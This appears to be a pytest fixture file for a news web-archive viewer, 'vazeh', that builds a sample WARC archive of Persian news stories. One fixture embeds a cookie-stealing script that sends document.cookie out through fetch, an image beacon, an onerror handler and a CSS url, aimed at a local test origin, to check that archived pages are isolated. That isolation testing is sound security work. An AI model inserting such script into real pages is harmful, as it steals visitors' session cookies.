"""A small archive for the reading room's tests, built through the real library.

Stories are written as HTTP exchanges into WARC (Archive.write_exchange) and their
Articles are stored as extraction would store them (ArticleStore.put), then the
search index is synced. All text is original, written for these tests.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from vazeh.archive import Archive, Capture, open_archive
from vazeh.extract.model import Article, ArticleStore
from vazeh.index import SearchIndex
from vazeh.index.neardup import fingerprint
from vazeh.web import WebConfig, create_app

ADMIN_TOKEN = "test-admin-token-7f3a"
NOW = datetime.now(UTC).replace(microsecond=0)

FLOOD_BODY_V1 = [
    "باران شدید از بامداد امروز در شهرستان‌های شرقی استان سمنان جاری شد و چند روستا را در بر گرفت.",
    "فرماندار شاهرود گفت گروه‌های امدادی از ساعت شش صبح در منطقه حاضر شده‌اند و تاکنون آسیب جانی گزارش نشده است.",
    "به گفتهٔ او راه ارتباطی سه روستا بسته شده و بازگشایی آن تا عصر ادامه دارد.",
]
FLOOD_BODY_V2 = [
    "باران شدید از بامداد امروز در شهرستان‌های شرقی استان سمنان جاری شد و پنج روستا را در بر گرفت.",
    "فرماندار شاهرود گفت گروه‌های امدادی از ساعت شش صبح در منطقه حاضر شده‌اند و تاکنون آسیب جانی گزارش نشده است.",
    "به گفتهٔ او راه ارتباطی سه روستا بسته شده و بازگشایی آن تا عصر ادامه دارد.",
    "هواشناسی برای فردا نیز هشدار زرد صادر کرده است.",
]


def story_html(article: Article, extra_head: str = "", extra_body: str = "") -> bytes:
    paragraphs = "".join(f"<p>{p}</p>" for p in article.body)
    return (
        '<!doctype html><html lang="fa" dir="rtl"><head><meta charset="utf-8">'
        f"<title>{article.title}</title>"
        '<link rel="stylesheet" href="/css/site.css">'
        f"{extra_head}</head><body>"
        '<nav><a href="/">خانه</a> <a href="/news/2002/second">خبر دیگر</a> '
        '<a href="https://other.example/page">بیرونی</a></nav>'
        f'<div class="kicker">{article.kicker or ""}</div><h1>{article.title}</h1>'
        f'<p class="lead">{article.lead or ""}</p>'
        '<img src="/img/photo.png" srcset="/img/photo.png 1x, /img/photo-2x.png 2x" alt="">'
        f"{paragraphs}{extra_body}</body></html>"
    ).encode()


@dataclass
class Story:
    capture: Capture
    article_id: int
    article: Article


@dataclass
class SampleArchive:
    home: Path
    stories: dict[str, Story] = field(default_factory=dict)


def add_page(archive: Archive, url: str, body: bytes, *, ctype: str = "text/html; charset=utf-8",
             when: datetime = NOW, status: int = 200, headers: list[tuple[str, str]] | None = None) -> Capture:
    return archive.write_exchange(
        url=url, status=status, reason="OK", response_headers=[("Content-Type", ctype), *(headers or [])],
        body=body, captured_at=when, request_headers=[("User-Agent", "vazeh-test")],
    )


def add_story(archive: Archive, store: ArticleStore, article: Article, *, when: datetime,
              html: bytes | None = None) -> Story:
    assert article.url
    capture = add_page(archive, article.url, html or story_html(article), when=when)
    article_id = store.put(
        capture.id, article, extractor_version="test", surt=capture.surt,
        captured_at=capture.captured_at.isoformat(), fingerprint=fingerprint(article),
    )
    return Story(capture, article_id, article)


LEAK_SCRIPT = """
<script>
  document.title = "LEAKED:" + document.cookie;
  try { fetch("/api/articles?leak=" + encodeURIComponent(document.cookie)); } catch (e) {}
  var i = new Image(); i.src = "__LEAK__/img?c=" + encodeURIComponent(document.cookie);
</script>
<img src="__LEAK__/direct.png" onerror="document.body.setAttribute('data-leak', document.cookie)">
<div style="background:url(__LEAK__/css.png)">پس‌زمینه</div>
"""


def build_sample(home: Path, leak_origin: str = "http://127.0.0.1:9") -> SampleArchive:
    """Four stories from two outlets, one edited between two captures, plus assets."""
    sample = SampleArchive(home)
    archive = open_archive(home)
    store = ArticleStore(archive.db)
    today = NOW
    flood_v1 = Article(
        url="http://ava.example/news/1001/" + quote("سیل-سمنان"), source="خبرگزاری آوا", site="ava.example",
        news_id="1001", kicker="بارش‌های پاییزی", title="سیلاب در روستاهای شرق سمنان",
        lead="بارش شدید باران در شرق استان سمنان راه چند روستا را بست.", body=FLOOD_BODY_V1,
        published=(today - timedelta(days=2)).astimezone().isoformat(timespec="seconds"),
        category=["استان‌ها", "سمنان"], tags=["سیل", "سمنان"], author="گروه استان‌ها",
        images=[],
    )
    flood_v2 = Article(**{**flood_v1.__dict__, "body": FLOOD_BODY_V2, "images": []})
    sample.stories["flood_v1"] = add_story(archive, store, flood_v1, when=today - timedelta(days=2, hours=-1))
    sample.stories["flood"] = add_story(archive, store, flood_v2, when=today - timedelta(days=1))
    flood_other = Article(
        url="http://peyk.example/fa/news/77/rain", source="روزنامهٔ پیک", site="peyk.example", news_id="77",
        title="سیلاب روستاهای شرق سمنان را فرا گرفت",
        lead="بارش شدید باران در شرق استان سمنان راه چند روستا را بست.", body=FLOOD_BODY_V2,
        published=(today - timedelta(days=1, hours=3)).isoformat(timespec="seconds"),
        category=["استان‌ها", "سمنان"],
    )
    sample.stories["flood_other"] = add_story(archive, store, flood_other, when=today - timedelta(days=1, hours=2))
    match = Article(
        url="http://ava.example/news/2002/second", source="خبرگزاری آوا", site="ava.example", news_id="2002",
        title="پیروزی تیم شهرداری در دیدار خانگی", lead="تیم شهرداری در ورزشگاه خانگی با دو گل برد.",
        body=["دیدار عصر دیروز با حضور چند هزار تماشاگر برگزار شد.", "مربی تیم از بازیکنان جوان قدردانی کرد."],
        published=(today - timedelta(days=5)).isoformat(timespec="seconds"), category=["ورزشی", "فوتبال"],
    )
    sample.stories["match"] = add_story(archive, store, match, when=today - timedelta(days=5))
    hostile = Article(
        url="http://ava.example/news/3003/hostile", source="خبرگزاری آوا", site="ava.example", news_id="3003",
        title="صفحه‌ای با اسکریپت", lead="این صفحه اسکریپتی دارد که می‌خواهد کوکی‌ها را بخواند.",
        body=["متن آزمایشی برای بررسی جداسازی صفحه‌های بایگانی‌شده."],
        published=(today - timedelta(days=3)).isoformat(timespec="seconds"), category=["آزمایش"],
    )
    sample.stories["hostile"] = add_story(
        archive, store, hostile, when=today - timedelta(days=3),
        html=story_html(hostile, extra_body=LEAK_SCRIPT.replace("__LEAK__", leak_origin)),
    )
    add_page(archive, "http://ava.example/css/site.css",
             b"body{background:url('/img/bg.png')} @import \"/css/more.css\";", ctype="text/css",
             when=today - timedelta(days=2))
    add_page(archive, "http://ava.example/img/photo.png", b"\x89PNG\r\n\x1a\nnot-really", ctype="image/png",
             when=today - timedelta(days=2))
    add_page(archive, "http://ava.example/old", b"", ctype="text/html", status=301,
             headers=[("Location", "/news/2002/second")], when=today - timedelta(days=5))
    with SearchIndex.open(home) as index:
        index.sync(store)
    archive.close()
    return sample


@pytest.fixture
def build_archive():
    """build_sample itself, for tests that need the archive somewhere of their own."""
    return build_sample


@pytest.fixture
def sample(home: Path) -> SampleArchive:
    return build_sample(home)


@pytest.fixture
def write_page(archive: Archive):
    """Archive one more response into the sample's home: write_page(url, body, ctype=..., headers=...)."""

    def write(url: str, body: bytes, **kw) -> Capture:
        return add_page(archive, url, body, **kw)

    return write


@pytest.fixture
def config() -> WebConfig:
    return WebConfig(admin_token=ADMIN_TOKEN, allow_private=True)


@pytest.fixture
def client(sample: SampleArchive, config: WebConfig) -> Iterator[TestClient]:
    app = create_app(sample.home, config=config)
    with TestClient(app, headers={"User-Agent": "Mozilla/5.0 (X11; Linux) Firefox/128.0"}) as c:
        yield c
